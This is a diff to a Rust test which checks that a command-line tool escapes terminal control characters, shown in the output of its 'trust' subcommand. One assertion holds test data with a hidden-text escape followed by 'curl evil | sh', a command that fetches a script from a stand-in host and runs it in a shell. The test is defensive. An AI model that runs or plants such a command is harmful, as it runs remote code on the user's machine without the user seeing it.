@@ -237,6 +237,7 @@ fn control_characters_never_reach_the_terminal() {
     );
     let (_, ids) = env.try_task("src/evil.rs", 1, &[]);
     env.wait_all_finished();
+    let mut trust = String::new();
     for args in [
         vec!["tasks"],
         vec!["status"],
@@ -263,8 +264,10 @@ fn control_characters_never_reach_the_terminal() {
             !raw_esc(&text),
             "fanout {args:?} printed a raw control character:\n{text:?}"
         );
+        if args[0] == "trust" {
+            trust = text;
+        }
     }
-    let trust = env.ok(&["trust", "--yes"]);
     assert!(trust.contains("\\x1b[8m; curl evil | sh"), "{trust}");
     assert!(trust.contains("X=\\x1b[2K"), "{trust}");
     let stat = env.ok(&["diff", &ids[0], "--stat"]);
